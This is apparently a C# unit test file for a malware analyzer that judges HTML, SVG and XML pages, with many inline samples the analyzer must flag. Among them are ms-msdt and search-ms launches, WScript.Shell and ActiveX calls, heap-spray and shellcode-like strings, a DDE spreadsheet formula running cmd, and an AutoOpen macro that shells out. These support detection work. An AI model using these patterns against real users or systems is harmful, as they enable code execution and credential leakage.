using Analyzer.Core;
using Analyzer.Engines.Tests.Making;

namespace Analyzer.Engines.Tests.Kinds;

/// <summary>Pages and pictures in XML: scripts that build files, addresses that start programs, files in encoded form.</summary>
public sealed class PageTests
{
    // A table, and a font, as scripts hold them.
    private const string Bytes = "\\x00\\x07\\x0e\\x15\\x1c\\x03\\x0a\\x11\\x18\\x1f\\x06\\x0d\\x14\\x1b\\x02\\x09\\x10\\x17\\x1e\\x05"
        + "\\x0c\\x13\\x1a\\x01\\x08\\x0f\\x16\\x1d\\x04\\x0b\\x12\\x19\\x00\\x07\\x0e\\x15\\x1c\\x03\\x0a\\x11";
    private const string Base64 = "AAsWISw3Ag0YIy45BA8aJTA7BhEcJzI9CBMeKTQ/ChUgKzYBDBciLTgDDhkkLzoFEBsmMTwHEh0oMz4JFB8qNQALFiEsNwINGCMu"
        + "OQQPGiUwOwYRHCcyPQgTHik0PwoVICs2AQwXIi04Aw4ZJC86BRAbJjE8BxIdKDM+CRQfKjUACxYhLDcCDRgjLjkEDxolMDsGERwn";

    private static readonly string Encoded = Convert.ToBase64String(Samples.Program);

    private const string Waiting = "<script>function get() { location = 'a.exe'; }</script><a onclick='get()'>x</a>";
    private const string Handled = "<script>b.onclick = function () { location = 'a.exe' };";

    [Theory]
    [InlineData("<!DOCTYPE html><html><body><p>Only a page about ActiveXObject and WScript.Shell, eval(atob(x)).</p></body></html>")]
    [InlineData("<html><script src=\"https://a.example/a.js\"></script><a href=\"https://a.example/a.zip\" download>a</a></html>")]
    [InlineData("<html><script>document.getElementById('a').innerHTML = 'b'; new ActiveXObject('Microsoft.XMLHTTP');</script></html>")]
    [InlineData("<html><body onload=\"start()\"><img src=\"data:image/png;base64,iVBORw0KGgo=\"><a href=\"javascript:history.back()\">"
        + "back</a></body></html>")]
    [InlineData("<html><a href=\"https://a.example/setup.exe\">a</a><script>location.href = 'b.html'; a.href "
        + "= 'c.pdf'; d.submit()</script></html>")]
    [InlineData("<html><script>$('#a').on('x', function () { window.open('https://www.example.com'); });</script></html>")]
    [InlineData("<html><script>var h = 'https:' == document.location.protocol ? 'https://ssl.' : 'http://www.'; "
        + "document.write(unescape(\"%3Cscript src='\" + h + \"a.example/ga.js' "
            + "type='text/javascript'%3E%3C/script%3E\"));</script></html>")]
    [InlineData("<html><!--[if lt IE 9]><![endif]--><script>window.jQuery || document.write(unescape('%3Cscript "
        + "src=\"a.js\"%3E%3C/script%3E'))"
        + "</script></html>")]
    [InlineData("<html><a href=\"https://a.example/setup.exe\">a</a><script>$('#a').click(function () { return false; })</script></html>")]
    [InlineData("<html><script>document.write('<a href=\"mailto:' + String.fromCharCode(97, 64, 98) + '\">a</a>')</script></html>")]
    [InlineData("<html><a href=a.exe download>x</a><script>window.dispatchEvent(new Event('resize'))</script></html>")]
    [InlineData("<html><button onclick=\"location.href='/files/setup.exe'\">Download</button></html>")]
    [InlineData("<html><script>function get() { location.href = '/files/setup.exe'; }</script><a onclick=\"get()\">x</a></html>")]
    [InlineData("<html><a href=\"javascript:get('b')\">x</a><script>function get(n) { if (n) go(); } function go() { "
        + "window.open('a.msi'); }</script></html>")]
    [InlineData("<html><script>function get() { location = 'a.exe'; } b.addEventListener('click', get); c.onclick = get;</script>"
        + "</html>")]
    [InlineData("<html><script>$('#a').on('click', function () { location.href = 'a.exe'; }); $('#b').trigger('change');</script></html>")]
    [InlineData("<html><script>$('#a').on('click', function () { location.href = 'a.exe'; }); d.onclick = () => e.click();</script>"
        + "</html>")]
    [InlineData("<html><script>document.write('<n uers=\"znvygb:n@o\">'.replace(/[a-z]/g, function (c) { return "
        + "String.fromCharCode(c.charCodeAt(0) + 13); }));</script></html>")]
    [InlineData("<html><script>document.write('<b>' + decodeURIComponent(location.hash) + '</b>'); e.innerHTML = unescape(f);"
        + "</script></html>")]
    [InlineData("<html><script type=\"application/json\">{\"a\": \"eval(atob('x'))\"}</script></html>")]
    [InlineData("<html><script>$('#a').attr('href', '/a').prop({ checked: true }); Object.assign(o, { download: 1 });</script></html>")]
    [InlineData("<html><script>i.setAttribute('src', '//cdn.example/a.js'); location.href = '/search?q=' + q;</script></html>")]
    public void Complete_OrdinaryPage_IsClean(string page)
    {
        var report = Judged.Of(page);

        (report.Verdict, report.MediaType).ShouldBe((Verdict.Clean, "text/html"), Judged.Text(report));
    }

    [Theory]
    [InlineData("var b = new Blob([Uint8Array.from(atob(d), c => c.charCodeAt(0))]); a.href = URL.createObjectURL(b); a.download = "
        + "'x.iso'; a.click();")]
    [InlineData("navigator.msSaveOrOpenBlob(new Blob([unescape(d)]), 'x.zip')")]
    [InlineData("a.href = 'data:application/zip;base64,' + d; a.download = 'x.zip'; a.click()")]
    [InlineData("let u = window.URL.createObjectURL(new File([fromB(atob(d))], 'x')); e.setAttribute('download', 'x.exe'); "
        + "e.dispatchEvent(new MouseEvent('click'))")]
    [InlineData("let l = document.createElement('a'); l.setAttribute('href', URL.createObjectURL(new Blob([p]))); "
        + "l.setAttribute('download', 'a.img'); l.click()")]
    [InlineData("Object.assign(document.createElement('a'), { href: URL.createObjectURL(new Blob([p])), download: 'x.vhd' }).click()")]
    [InlineData("$(a).attr({ href: URL.createObjectURL(new Blob([p])), 'download': 'q.iso' })[0].click()")]
    [InlineData("$('#a').attr('href', URL.createObjectURL(new Blob([p]))).attr('down' + 'load', 'q.iso').get(0).click()")]
    [InlineData("Reflect.set(a, 'href', URL.createObjectURL(new Blob([p]))); Reflect.set(a, 'download', 'z.js'); a.click()")]
    public void Complete_ScriptThatBuildsADownload_IsSuspicious(string script)
    {
        var page = Judged.Of($"<html><body><script>{script}</script></body></html>");

        page.Verdict.ShouldBe(Verdict.Suspicious, Judged.Text(page));
        page.Rules().ShouldContain("script.builds-download");
        Judged.Of($"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>{script}</script></svg>").Rules()
            .ShouldContain("script.builds-download");
        Judged.Of($"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>\n<![CDATA[{script}]]>\n</script></svg>").Rules()
            .ShouldContain("script.builds-download");
    }

    [Theory]
    [InlineData("<script>window.location.href = 'ms-msdt:/id PCWDiagnostic /skip force'</script>", "script.starts-program")]
    [InlineData("<script>location = 'search-ms:query=' + q + '&crumb=location:' + s</script>", "script.starts-program")]
    [InlineData("<script>location.replace('ms-officecmd:{}')</script>", "script.starts-program")]
    [InlineData("<button onclick=\"window.open('search-ms:query=a')\">x</button>", "script.starts-program")]
    [InlineData("<script>new Image().src = 'file://192.0.2.1/share/a.png'</script>", "script.starts-program")]
    [InlineData("<script>i.setAttribute('src', '\\\\\\\\192.0.2.1\\\\share\\\\a.png')</script>", "script.starts-program")]
    [InlineData("<a href='file://192.0.2.1/share/x.lnk'>Open</a>", "html.file-share")]
    public void Complete_PageThatStartsOrReachesAShare_IsSuspicious(string body, string rule)
    {
        var page = Judged.Of($"<html><body>{body}</body></html>");

        page.Verdict.ShouldBeOneOf(Verdict.Suspicious, Verdict.Malicious);
        page.Rules().ShouldContain(rule, Judged.Text(page));
    }

    [Theory]
    [InlineData("<script>eval(atob('YQ=='))</script>", "script.runs-decoded")]
    [InlineData("<script>document.write(unescape('%3Cscript%3E'))</script>", "script.runs-decoded")]
    [InlineData("<script>document.write(unescape(a + b))</script>", "script.runs-decoded")]
    [InlineData("<script>document.write(unescape('%3Cobject classid=x%3E'))</script>", "script.runs-decoded")]
    [InlineData("<script>document.write(atob(x)); this does not parse</script>", "script.runs-decoded")]
    [InlineData("<script>document.write('<b>' + atob(p))</script>", "script.runs-decoded")]
    [InlineData("<script>var a = 'PGI+'; var b = atob(a); document.write(b)</script>", "script.runs-decoded")]
    [InlineData("<script>document.write(decodeURIComponent(escape(window.atob(p))))</script>", "script.runs-decoded")]
    [InlineData("<script>var h = ''; h += atob(p); document.body.innerHTML = h;</script>", "script.runs-decoded")]
    [InlineData("<script>f.srcdoc = new TextDecoder().decode(Uint8Array.from(atob(p), c => c.charCodeAt(0)))</script>",
        "script.runs-decoded")]
    [InlineData("<script>e.insertAdjacentHTML('beforeend', CryptoJS.AES.decrypt(d, k).toString(CryptoJS.enc.Utf8))</script>",
        "script.runs-decoded")]
    [InlineData("<script>var e = eval; window['ev' + 'al']('x' + atob(p))</script>", "script.runs-decoded")]
    [InlineData("<script>function get() { location = 'a.exe'; } get();</script><a onclick='get()'>x</a>", "script.loads-program")]
    [InlineData("<script>function get() { location = 'a.exe'; } window.onload = get; b.onclick = get;</script>", "script.loads-program")]
    [InlineData("<script>document.addEventListener('click', () => { location = 'a.exe'; })</script>", "script.loads-program")]
    [InlineData(Waiting + "<script>setTimeout(get, 0)</script>", "script.loads-program")]
    [InlineData(Waiting + "<script>onload = get</script>", "script.loads-program")]
    [InlineData(Waiting + "<script>get.call(this)</script>", "script.loads-program")]
    [InlineData("<script>function get() { location = 'a.exe'; } get.call(this)</script><a onclick='get()'>x</a>", "script.loads-program")]
    [InlineData(Waiting + "<script>addEventListener('load', get)</script>", "script.loads-program")]
    [InlineData(Waiting + "<script>var go = {a: get}; go.a()</script>", "script.loads-program")]
    [InlineData(Handled + "b.onclick(0)</script>", "script.loads-program")]
    [InlineData(Handled + "setTimeout(b.onclick, 0)</script>", "script.loads-program")]
    [InlineData(Handled + "setTimeout(b.click.bind(b), 0)</script>", "script.loads-program")]
    [InlineData(Handled + "b.click(0)</script>", "script.loads-program")]
    [InlineData(Handled + "</script><script>b.dispatchEvent(new MouseEvent('mousedown'))</script>", "script.loads-program")]
    [InlineData(Handled + "b.fireEvent('onclick')</script>", "script.loads-program")]
    [InlineData(Handled + "$(b).trigger('click.a')</script>", "script.loads-program")]
    [InlineData("<script>b.onmousedown = function () { location = 'a.exe' }; b.onmousedown()</script>", "script.loads-program")]
    [InlineData("<script>f.onsubmit = function () { location = 'a.exe' }; f.requestSubmit()</script>", "script.loads-program")]
    [InlineData("<script>b.on('click', function () { location = 'a.exe' }); function on(e, f) { f() }</script>", "script.loads-program")]
    [InlineData("<script>b.click = f => f(); b.click(function () { location = 'a.exe' })</script>", "script.loads-program")]
    [InlineData("<script>Object.assign(b, {on(e, f) { f() }}); b.on('click', function () { location = 'a.exe' })</script>",
        "script.loads-program")]
    [InlineData("<script>top.onclick = function () { location = 'a.exe' }</script>", "script.loads-program")]
    [InlineData("<script>this.onclick = function () { location = 'a.exe' }</script>", "script.loads-program")]
    [InlineData("<body onclick=\"location='a.exe'\">", "script.loads-program")]
    [InlineData("<script>function get() { location = 'a.exe'; }</script><a onclick='get()'>x</a><script>b.click()</script>",
        "script.loads-program")]
    [InlineData("<body onload=\"eval(String.fromCharCode(97))\">", "script.runs-decoded")]
    [InlineData("<a href=\"jav&#x61;script:eval(atob('YQ=='))\">a</a>", "script.runs-decoded")]
    [InlineData("<script>new ActiveXObject(\"WScr\" + \"ipt.Shell\").Run('calc')</script>", "script.starts-program")]
    [InlineData("<script>var s = unescape('%u0c0c%u0c0c'); while (s.length < 0x40000) s += s;</script>", "script.attacks-reader")]
    [InlineData("<script>var c = '%u03eb%ueb59%ue805%ufff8%uffff%u4949%u4937%ud801"
        + "%uee34%udbe5%uf8a1%ufb00%ue12d%ue4ff%uf0b8%uffee';</script>", "script.attacks-reader")]
    [InlineData("<object classid='clsid:00000000-0000-0000-0000-000000000001' id=c></object><script>c.Open('x')</script>",
        "html.scripted-object")]
    [InlineData("<script>function f() { c['Url'] = 'x'; }</script><body onload='f()'><object id=c classid=clsid:1></object>",
        "html.scripted-object")]
    [InlineData("<script>var t = 'A.B'; var c = new ActiveXObject(t + '.1'); c.Open(x)</script>", "html.scripted-object")]
    [InlineData("<script>function f() { c['Url'] = x } var c = new ActiveXObject('A.B'); f()</script>", "html.scripted-object")]
    [InlineData("<script>new ActiveXObject('A.B').Open(x)</script>", "html.scripted-object")]
    [InlineData("<object classid='clsid:1' id=c></object><script>c.Open('a\n'); this does not parse</script>", "html.scripted-object")]
    [InlineData("<object classid='clsid:1'><param name=Url value='http://a.example/b.exe'></object>", "html.loads-program")]
    [InlineData("<object classid='clsid:1' id=c></object><script>var d = document.getElementById('c'); d.Open(x)</script>",
        "html.scripted-object")]
    [InlineData("<object classid='clsid:1' id=c></object><script>document.all.c.Open(x)</script>", "html.scripted-object")]
    [InlineData("<script>var c = document.createElement('object'); c.setAttribute('classid', 'clsid:1'); c.Open(x)</script>",
        "html.scripted-object")]
    [InlineData("<script>var c = document.createElement('OBJECT'); c.classid = 'clsid:1'; c.Open(x)</script>", "html.scripted-object")]
    [InlineData("<script>document.write('<obj' + 'ect id=c classid=\"clsid:1\">' + y + '</object>'); c.Open(x)</script>",
        "html.scripted-object")]
    [InlineData("<script>var t = '<object id=c '; t += 'classid=clsid:1>'; d.innerHTML = t</script><body onload='c.Open(x)'>",
        "html.scripted-object")]
    [InlineData("<script>document.writeln('<iframe src=\"ms-msdt:/id a\" width=' + w + '></iframe>')</script>", "html.starting-address")]
    [InlineData("<script>document.write('<embed src=a.exe>')</script>", "html.loads-program")]
    [InlineData("<script>document.write('<script>new ActiveXObject(\"A.B\").Open(1)</scr' + 'ipt>')</script>", "html.scripted-object")]
    [InlineData("<script>var d = new ActiveXObject('htmlfile'); d.Script.location = '.cpl:../../a.inf';</script>",
        "script.starts-program")]
    [InlineData("<script language=\"VBScript\">x = 1</script>", "html.vbscript")]
    [InlineData("<HTA:APPLICATION id=\"a\">", "html.application")]
    [InlineData("<iframe src=\"ms-msdt:/id PCWDiagnostic\"></iframe>", "html.starting-address")]
    [InlineData("<a href='search-ms:query=x&crumb=location:\\\\a.example\\s'>a</a>", "html.starting-address")]
    [InlineData("<meta http-equiv=refresh content=\"0; url=ms-officecmd:{}\">", "html.starting-address")]
    [InlineData("<object data=\"ms-its:mhtml:file://C:\\a.mht!http://a.example/b.chm::/c.htm\"></object>", "html.starting-address")]
    [InlineData("<a href='mk:@MSITStore:a.chm::/b.exe'>a</a>", "html.starting-address")]
    [InlineData("<img src=\"\\\\a.example\\share\\p.png\">", "html.file-share")]
    [InlineData("<img src='file://a.example/share/p.png'>", "html.file-share")]
    [InlineData("<a download=\"a.exe\" href=\"data:application/octet-stream;base64,TVqQ\">a</a>", "html.carried-download")]
    [InlineData("<script>var p = ['WScr', 'ipt.Shell'], n = p[0] + p[1]; new ActiveXObject(n).Run('calc')</script>",
        "script.starts-program")]
    [InlineData("<SCRIPT>window.location.href = 'http://a.example/a.hta';</SCRIPT >", "script.loads-program")]
    [InlineData("<script>setTimeout(function () { location = 'http://a.ex' + 'ample/a.vbs' }, 9)</script>", "script.loads-program")]
    [InlineData("<script>window.open('https://a.example/b.exe?c#d')</script>", "script.loads-program")]
    [InlineData("<body onload=\"location.replace('https://a.example/b.jar')\">", "script.loads-program")]
    [InlineData("<script>var a = document.createElement('a'); a.href = 'b/setup.exe'; a.download = 'setup.exe'; a.click();</script>",
        "script.loads-program")]
    [InlineData("<script>let l = document.createElement('a'); l.setAttribute('href', 'https://a.example/b.lnk'); "
        + "l.dispatchEvent(new MouseEvent('click'))</script>", "script.loads-program")]
    [InlineData("<script>const f = document.createElement('iframe'); f.src = 'https://a.example/b.exe'</script>", "script.loads-program")]
    [InlineData("<a id=d href=a.exe download>x</a><script>document.getElementById('d').click()</script>", "html.loads-program")]
    [InlineData("<iframe src=https://a.example/b.scr></iframe>", "html.loads-program")]
    [InlineData("<meta http-equiv=refresh content=\"0; url=https://a.example/b.msi\">", "html.loads-program")]
    [InlineData("<script>a.href = 'data:application/octet-stream;base64,TVqQ'; a.download = 'x.exe'; a.click()</script>",
        "script.builds-download")]
    [InlineData("<script>document.write(atob(p) + '<br>')</script>", "script.runs-decoded")]
    [InlineData("<script>document.write(unescape(p + '%3Cbr%3E'))</script>", "script.runs-decoded")]
    [InlineData("<script>document.write(decodeURIComponent(p) + '<br>')</script>", "script.runs-decoded")]
    [InlineData("<script>document.write(unescape(\"%3Cscript%3Ea='src=';new ActiveXObject(b).Run('a')%3C/script%3E\"))</script>",
        "script.runs-decoded")]
    [InlineData("<script>document.write(unescape(\"%3Cscript src='a'%3Eb()%3C/script%3E\"))</script>", "script.runs-decoded")]
    [InlineData("<p id=d onclick=\"location='https://a.example/b.exe'\">x</p><script>document.getElementById('d').click()</script>",
        "script.loads-program")]
    [InlineData("<!--><script>eval(atob('YQ=='))</script>-->", "script.runs-decoded")]
    [InlineData("<p title='<' onclick = eval(atob('YQ=='))>", "script.runs-decoded")]
    public void Complete_PageThatActs_IsSuspicious(string body, string rule)
    {
        foreach (var page in (string[])[$"<html>{body}</html>", $"<!DOCTYPE html>\r\n<HTML><BODY>{body}</BODY></HTML>"])
        {
            var report = Judged.Of(page);

            report.Verdict.ShouldBeOneOf([Verdict.Suspicious, Verdict.Malicious], Judged.Text(report));
            report.Rules().ShouldContain(rule);
        }
    }

    [Theory]
    [InlineData("<object classid='clsid:D27CDB6E-AE6D-11cf-96B8-444553540000' id=c></object><script>c.Play()</script>")]
    [InlineData("<object classid='clsid:00000000-0000-0000-0000-000000000001' id=c></object><script>var d = 1; d.Open('x')</script>")]
    [InlineData("<a href='mk:@MSITStore:C:\\Windows\\Help\\a.chm::/b/c.htm#d'>a</a><img src='ms-its:a.chm::/b.gif'>")]
    [InlineData("<script>var f = new ActiveXObject('ShockwaveFlash.ShockwaveFlash.7'); f.GetVariable('$version')</script>")]
    [InlineData("<script>var p = new ActiveXObject('A.B'), v = p.GetVersions(); if (p.isInstalled(1)) f(p.size)</script>")]
    [InlineData("<applet code=A.class><param name=archive value='a/b.jar'><param name=title value='About setup.'></applet>")]
    [InlineData("<script>var x = new ActiveXObject('Msxml2.DOMDocument'), y = new ActiveXObject('Microsoft.XMLDOM'); y.load(z); x.load(z)"
        + "</script>")]
    [InlineData("<script>var c = document.createElement('object'); c.classid = 'clsid:1'; document.body.appendChild(c)</script>")]
    [InlineData("<script>document.write('<object id=c classid=\"clsid:' + k + '\"><embed src=' + s + '></object>'); var i = ' + y + ';"
        + "d.innerHTML = '<script>var a = ' + b + ';</scr' + 'ipt>'</script>")]
    [InlineData("<script>while (s.length < 8) s = '0' + s; while (t.length < 64) t += t;</script>")]
    [InlineData("<script>document.title = unescape('%u4F60%u597D%uFF0C%u4E16%u754C%u3002"
        + "%u6B22%u8FCE%u4F7F%u7528%u672C%u9875%u9762');</script>")]
    [InlineData("<script>t.wordCharacters = '\\u0b80-\\u0b89\\u0b8a-\\u0b8f\\u0b90-\\u0b99\\u0ba0-\\u0ba9\\u0baa-\\u0baf\\u0bba-"
        + "\\u0bbf\\u0bc0-\\u0bc9\\u0bca-\\u0bcf\\u0bd0-\\u0bd9\\u0bda-\\u0bdf\\u0be0-\\u0be9'</script>")]
    [InlineData("<script>var t = '" + Bytes + "', f = atob('" + Base64 + "');</script>")]
    [InlineData("<script>location = '.a/b:c'; u = '.5:1'; location = '.:80/x'</script>")]
    public void Complete_PageWithAPlayerOrTexts_IsNoAttack(string body) =>
        Judged.Of($"<html><body>{body}</body></html>").Verdict.ShouldBe(Verdict.Clean);

    /// <summary>A name for each text, and the texts in a list: so programs write scripts that nobody is to read.</summary>
    [Fact]
    public void Complete_DataInPiecesOfAList_AreCarried()
    {
        var random = new Random(33);
        byte[] Piece() => [.. Enumerable.Range(0, 12).Select(_ => (byte)random.Next(256))];
        var pieces = Enumerable.Range(0, 80).Select(_ => Convert.ToBase64String(Piece())).ToList();
        string Page(IEnumerable<string> list, string code) => $"<html><script>var l = ['{string.Join("','", list)}'];"
            + $"function t(i) {{ return l[i - 7]; }} {code}</script></html>";
        var (calls, saves) = ("document[t(9)](t(8));", "var b = new Blob([t(8)]); a[t(9)] = URL[t(8)](b); a['download'] = t(7);");

        Judged.Of(Page(pieces, calls)).Rules().ShouldContain("script.runs-decoded");
        Judged.Of(Page(pieces, saves)).Rules().ShouldContain("script.builds-download");
        Judged.Of(Page(Enumerable.Repeat("getElementsByTagName", 80), calls)).Verdict.ShouldBe(Verdict.Clean);
    }

    [Fact]
    public void Complete_ScriptThatIsCut_MayCallWhatWaits()
    {
        Judged.Of($"<html>{Waiting}</html>").Verdict.ShouldBe(Verdict.Clean);
        Judged.Of($"<html>{Waiting}<script>get();/*{new string(' ', 300_000)}*/</script></html>").Rules()
            .ShouldContain("script.loads-program");
    }

    [Fact]
    public void Complete_ShortenedNames_AreManyVariables()
    {
        var functions = string.Concat(Enumerable.Range(0, 20).Select(i => $"function f{i}(e, n) {{ n.innerHTML = e; }}"));
        Judged.Of($"<html><script>{functions} var t = '', e; e = atob(t);</script></html>").Verdict.ShouldBe(Verdict.Clean);
    }

    [Theory]
    [InlineData("var e; {0} e = atob(p); document.body.innerHTML = e;")]
    [InlineData("{0} function g(n) { n.innerHTML = e; } e = atob(p); g(document.body);")]
    [InlineData("function a() { var e; {0} e = atob(p); return function () { document.body.innerHTML = '<i>' + e; }; } a()();")]
    [InlineData("function a({ e }) { {0} e = atob(p); document.body.innerHTML = e; } a(b);")]
    [InlineData("const a = ([t, e]) => { {0} e = atob(p); document.body.innerHTML = e; }; a(b);")]
    public void Complete_NameThatIsOftenAssigned_IsFollowedInItsFunction(string script)
    {
        var often = string.Concat(Enumerable.Range(0, 12).Select(i => $"e = f({i}); "));
        Judged.Of($"<html><script>{script.Replace("{0}", often)}</script></html>").Rules().ShouldContain("script.runs-decoded", script);
        Judged.Of($"<html><script>{script.Replace("{0}", often).Replace("atob", "f")}</script></html>").Verdict.ShouldBe(Verdict.Clean);
    }

    [Fact]
    public void Complete_FunctionsNestedDeeply_AreFollowedWithinBounds()
    {
        var (open, close) = (string.Concat(Enumerable.Repeat("(function(){var e;", 200)), string.Concat(Enumerable.Repeat("})();", 200)));
        var often = string.Concat(Enumerable.Repeat("e = f(e);", 4000));
        var written = string.Concat(Enumerable.Repeat("n.innerHTML = e;", 2000));
        Judged.Of($"<html><script>{open}{often}{written}{close}</script></html>").Unable.ShouldBeNull();
    }

    [Fact]
    public void Complete_PageInUtf16_IsReadLikeAnyOther()
    {
        var page = "\uFEFF<html><script>eval(atob('YQ=='))</script></html>";

        Judged.Of(System.Text.Encoding.Unicode.GetBytes(page)).Verdict.ShouldBe(Verdict.Suspicious);
        Judged.Of(System.Text.Encoding.BigEndianUnicode.GetBytes(page)).Verdict.ShouldBe(Verdict.Suspicious);
    }

    [Theory]
    [InlineData("<html><script>var d = \"{0}\";</script></html>")]
    [InlineData("<html><script>var d = '{1}';</script></html>")]
    [InlineData("<?xml version=\"1.0\"?><v:shape xmlns:v=\"x\" o:gfxdata=\"{2}\"/>")]
    [InlineData("<?xml version=\"1.0\"?><pkg:package xmlns:pkg=\"x\"><pkg:binaryData>{0}</pkg:binaryData></pkg:package>")]
    public void Complete_FileInEncodedForm_IsAPart(string page)
    {
        var joined = string.Join("' +\r\n '", Encoded.Chunk(60).Select(letters => new string(letters)));
        var lines = string.Join("&#xA;", Encoded.Chunk(76).Select(letters => new string(letters)));
        var report = Judged.Of(page.Replace("{0}", Encoded).Replace("{1}", joined).Replace("{2}", lines));

        report.Verdict.ShouldBe(Verdict.Suspicious, Judged.Text(report));
        report.Parts!.Single().Size.ShouldBe(Samples.Program.Length);
    }

    [Theory]
    [InlineData("$x = '{0}'; [Convert]::FromBase64String($x)")]
    [InlineData("import base64\ndata = base64.b64decode('{0}')\n")]
    public void Complete_ProgramOfLinuxInAScript_IsAPart(string script)
    {
        byte[] program = [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, .. new byte[90]];

        var report = Judged.Of(Samples.Bytes(script.Replace("{0}", Convert.ToBase64String(program))));

        report.Verdict.ShouldBe(Verdict.Suspicious, Judged.Text(report));
        report.Parts!.Single().MediaType.ShouldBe("application/x-elf");
    }

    [Theory]
    [InlineData("<html><body>a</body></html>\n")]
    [InlineData("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"/>")]
    public void Complete_FileBehindATextAsItIs_IsAPart(string text)
    {
        Judged.Of([.. Samples.Bytes(text), .. ZipMaker.Pack(("a", Samples.Program))]).Verdict.ShouldBe(Verdict.Suspicious);
        Judged.Of([.. Samples.Bytes(text), .. new OleMaker().Macros("", ("A", "Sub AutoOpen()\r\nShell \"cmd\"\r\nEnd Sub")).ToArray()])
            .Verdict.ShouldBe(Verdict.Malicious);
    }

    [Theory]
    [InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0h1\"/><a xlink:href=\"https://a.example/\"/></svg>",
        Verdict.Clean)]
    [InlineData("<?xml version=\"1.0\"?><svg><script>alert(1)</script></svg>",
        Verdict.Clean)] // told, with less points than suspicion takes
    [InlineData("<svg xmlns=\"x\" onload=\"eval(atob('YQ=='))\"/>", Verdict.Malicious)]
    [InlineData("<svg xmlns=\"x\"><image xlink:href=\"\\\\a.example\\s\\p.png\"/></svg>", Verdict.Suspicious)]
    public void Complete_Svg_IsJudgedByWhatItDoes(string picture, Verdict verdict)
    {
        var report = Judged.Of(picture);

        (report.Verdict, report.MediaType).ShouldBe((verdict, "image/svg+xml"), Judged.Text(report));
    }

    [Theory]
    [InlineData("<job id=\"a\"><script language=\"JScript\">WScript.Echo(1)</script></job>")]
    [InlineData("<?xml version=\"1.0\"?><package><job><script language=\"VBScript\">x</script></job></package>")]
    [InlineData("<?xml version=\"1.0\"?><PCSettings><SearchableContent><ApplicationInformation><DeepLink>calc.exe</DeepLink>"
        + "</ApplicationInformation></SearchableContent></PCSettings>")]
    [InlineData("<?xml version=\"1.0\"?><libraryDescription><simpleLocation><url>\\\\a.example\\s</url></simpleLocation>"
        + "</libraryDescription>")]
    [InlineData("<?xml version=\"1.0\"?><MMC_ConsoleFile ConsoleVersion=\"3.0\"/>")]
    [InlineData("<?xml version=\"1.0\"?><asmv1:assembly><deployment install=\"true\"/></asmv1:assembly>")]
    [InlineData("<jnlp codebase=\"http://a.example/\"/>")]
    [InlineData("<Project xmlns=\"x\"><UsingTask TaskName=\"a\" TaskFactory=\"CodeTaskFactory\"/></Project>")]
    [InlineData("<?xml version=\"1.0\"?><?mso-application progid=\"Excel.Sheet\"?><Workbook><Cell ss:Formula=\"=cmd|'/c calc'!A0\"/>"
        + "</Workbook>")]
    public void Complete_XmlThatStartsSomething_IsSuspicious(string xml) =>
        Judged.Of(xml).Verdict.ShouldBeOneOf(Verdict.Suspicious, Verdict.Malicious);

    [Theory]
    [InlineData("<?xml version=\"1.0\"?><note><to>a</to></note>")]
    [InlineData("<assembly><a/></assembly>")]
    [InlineData("<project><task name=\"a\"/></project>")]
    [InlineData("<Project Sdk=\"Microsoft.NET.Sdk\"/>")]
    public void Complete_OrdinaryXml_IsClean(string xml) => Judged.Of(xml).Verdict.ShouldBe(Verdict.Clean);

    [Fact]
    public void Complete_TagWithoutEnd_Ends()
    {
        Judged.Of("<html><a href=\"" + new string('x', 300_000)).MediaType.ShouldBe("text/html");
        Judged.Of("<html><p " + new string('x', 300_000)).Verdict.ShouldBe(Verdict.Unable);
        Judged.Of("<html><script>" + new string('(', 100_000)).Verdict.ShouldBe(Verdict.Clean);
    }
}
